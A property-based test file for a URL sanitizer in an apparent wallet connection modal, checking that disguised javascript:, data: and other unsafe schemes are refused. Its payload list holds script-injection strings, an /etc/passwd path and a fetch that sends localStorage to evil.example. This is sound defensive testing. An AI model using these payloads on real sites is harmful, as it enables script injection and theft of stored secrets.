import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { safeUrl, UNSAFE_SCHEMES, type UrlUse } from './safeUrl.js';

const USES: readonly UrlUse[] = ['link', 'app', 'image'];
const use = fc.constantFrom(...USES);

/** Characters the URL parser drops inside a scheme (tab, LF, CR) or before it (C0 controls and space). */
const stripped = fc.constantFrom('\t', '\n', '\r');
const leading = fc.constantFrom('', ' ', '\u0000', '\u001f', '\t', '  \n');

/** `scheme` as an attacker may write it: mixed case, tabs and newlines inside, control characters before. */
const disguised = (scheme: string) =>
  fc
    .tuple(
      leading,
      fc.array(fc.tuple(fc.boolean(), fc.option(stripped, { nil: undefined })), {
        minLength: scheme.length,
        maxLength: scheme.length,
      }),
    )
    .map(
      ([lead, marks]) =>
        lead +
        [...scheme]
          .map((char, index) => {
            const [upper, extra] = marks[index] ?? [false, undefined];
            return (upper ? char.toUpperCase() : char) + (extra ?? '');
          })
          .join(''),
    );

const payload = fc.constantFrom(
  '//%0Aalert(document.domain)',
  'alert(1)',
  '//wallet.example/%0Afetch(`//evil.example?`+localStorage)',
  'text/html,<script>alert(1)</script>',
  'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '///etc/passwd',
  'blank',
  'https://wallet.example/uuid',
);

/** A scheme a wallet may register (RFC 3986), other than the unsafe ones and the web's own. */
const walletScheme = fc
  .stringMatching(/^[a-z][a-z0-9+.-]{0,15}$/)
  .filter((scheme) => !UNSAFE_SCHEMES.has(scheme) && scheme !== 'http' && scheme !== 'https');

const IMAGE_KINDS = ['png', 'jpeg', 'jpg', 'gif', 'webp', 'avif', 'svg+xml', 'x-icon'] as const;

describe('safeUrl (the one URL policy of the modal)', () => {
  it('accepts every http(s) URL with a host, for every use, unchanged', () => {
    fc.assert(
      fc.property(
        fc.webUrl({ validSchemes: ['http', 'https'], withQueryParameters: true, withFragments: true }),
        use,
        (url, how) => {
          expect(safeUrl(url, how)._unsafeUnwrap()).toBe(url);
        },
      ),
      { numRuns: 50 },
    );
  });

  it('refuses every unsafe scheme for every use, however it is cased, split by tabs or newlines, or padded', () => {
    const unsafe = fc.constantFrom(...[...UNSAFE_SCHEMES].filter((scheme) => scheme !== 'data'));
    fc.assert(
      fc.property(unsafe.chain(disguised), payload, use, (scheme, rest, how) => {
        const error = safeUrl(`${scheme}:${rest}`, how)._unsafeUnwrapErr();
        expect(error.code).toBe('URL_UNSAFE');
        expect(error.message).toBe('This link cannot be opened: it is not a safe web or wallet address');
      }),
    );
  });

  it('refuses data: URLs that are not images everywhere, and data: images except as an image', () => {
    fc.assert(
      fc.property(disguised('data'), payload, use, (scheme, rest, how) => {
        expect(safeUrl(`${scheme}:${rest}`, how)._unsafeUnwrapErr().code).toBe('URL_UNSAFE');
      }),
    );
    fc.assert(
      fc.property(
        fc.constantFrom(...IMAGE_KINDS),
        fc.constantFrom(';base64,AAAA', ',%3Csvg%2F%3E', ';charset=utf-8,%3Csvg%3E'),
        fc.constantFrom('link', 'app') as fc.Arbitrary<UrlUse>,
        (kind, body, how) => {
          const url = `data:image/${kind}${body}`;
          expect(safeUrl(url, 'image')._unsafeUnwrap()).toBe(url);
          expect(safeUrl(url, how)._unsafeUnwrapErr().code).toBe('URL_UNSAFE');
        },
      ),
    );
  });

  it("accepts a wallet's own scheme only to hand over to the app, never as a link or an image", () => {
    fc.assert(
      fc.property(
        walletScheme,
        fc.constantFrom('', '//', '//wc?uri=wc%3Aabc%402', '://x'),
        (scheme, rest) => {
          const url = `${scheme}:${rest}`;
          expect(safeUrl(url, 'app')._unsafeUnwrap()).toBe(url);
          expect(safeUrl(url, 'link')._unsafeUnwrapErr().code).toBe('URL_UNSAFE');
          expect(safeUrl(url, 'image')._unsafeUnwrapErr().code).toBe('URL_UNSAFE');
        },
      ),
    );
  });

  it('never accepts what the browser would not read as an allowed scheme (oracle: the WHATWG URL parser)', () => {
    const anyUrl = fc.oneof(
      fc.string({ maxLength: 40 }),
      fc.webUrl({
        validSchemes: ['javascript', 'data', 'file', 'blob', 'vbscript', 'trust', 'http', 'https'],
      }),
      fc.tuple(fc.constantFrom(...UNSAFE_SCHEMES), payload).map(([scheme, rest]) => `${scheme}:${rest}`),
    );
    fc.assert(
      fc.property(anyUrl, use, (value, how) => {
        const result = safeUrl(value, how);
        if (result.isErr()) return;
        // A relative reference (allowed for images) takes the host page's scheme: resolve it against one.
        const scheme = new URL(value, 'https://host.example/').protocol.slice(0, -1);
        if (how === 'link') expect(['http', 'https']).toContain(scheme);
        if (how === 'image') expect(['http', 'https', 'data']).toContain(scheme);
        expect(UNSAFE_SCHEMES.has(scheme) && scheme !== 'data').toBe(false);
      }),
    );
  });

  it('refuses empty and non-string values, and relative references for anything but an image', () => {
    for (const value of ['', '   ', undefined, null, 42, {}]) {
      for (const how of USES) expect(safeUrl(value, how)._unsafeUnwrapErr().code).toBe('URL_UNSAFE');
    }
    for (const value of ['/wallets/x', 'wallet.example/wc', '//evil.example']) {
      expect(safeUrl(value, 'link')._unsafeUnwrapErr().code).toBe('URL_UNSAFE');
      expect(safeUrl(value, 'app')._unsafeUnwrapErr().code).toBe('URL_UNSAFE');
    }
  });

  it("lets an image use a relative reference (it takes the host page's own http(s) scheme)", () => {
    for (const value of ['/wallet-images/me.rainbow.webp', 'logo.png', '//cdn.example/x.png']) {
      expect(safeUrl(value, 'image')._unsafeUnwrap()).toBe(value);
    }
  });

  it('refuses an http(s) URL without a host and a URL past the length cap', () => {
    expect(safeUrl('https://', 'link').isErr()).toBe(true);
    expect(safeUrl(`https://a.example/${'x'.repeat(262_144)}`, 'link').isErr()).toBe(true);
  });
});
